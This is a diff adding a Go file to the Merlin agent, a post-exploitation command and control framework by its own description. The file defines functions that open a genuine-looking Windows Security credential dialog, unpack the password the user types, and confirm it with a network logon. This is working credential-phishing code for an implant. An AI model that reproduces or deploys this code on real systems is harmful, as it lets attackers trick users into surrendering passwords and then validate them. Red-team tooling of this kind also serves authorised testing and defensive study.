@@ -0,0 +1,76 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/advapi32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/credui"
+)
+
+// promptCredentials shows the native Windows Security credential dialog
+func promptCredentials(caption, message string) (user, domain, password string, err error) {
+	buf, size, err := credui.CredUIPromptForWindowsCredentials(caption, message, credui.CREDUIWIN_GENERIC)
+	if err != nil {
+		return
+	}
+	defer windows.CoTaskMemFree(unsafe.Pointer(buf))
+	user, domain, password, err = credui.CredUnPackAuthenticationBuffer(buf, size)
+	// The generic prompt returns DOMAIN\user or user@domain in the user name
+	if domain == "" {
+		if d, u, ok := strings.Cut(user, "\\"); ok {
+			domain, user = d, u
+		}
+	}
+	return
+}
+
+// verifyCredentials checks the credentials with a network logon
+func verifyCredentials(user, domain, password string) error {
+	u, err := windows.UTF16PtrFromString(user)
+	if err != nil {
+		return err
+	}
+	if domain == "" {
+		domain = "."
+	}
+	d, err := windows.UTF16PtrFromString(domain)
+	if err != nil {
+		return err
+	}
+	p, err := windows.UTF16PtrFromString(password)
+	if err != nil {
+		return err
+	}
+	// LOGON32_LOGON_NETWORK 3, LOGON32_PROVIDER_DEFAULT 0
+	token, err := advapi32.LogonUser(u, d, p, 3, 0)
+	if err != nil {
+		return err
+	}
+	return windows.CloseHandle(windows.Handle(uintptr(*token)))
+}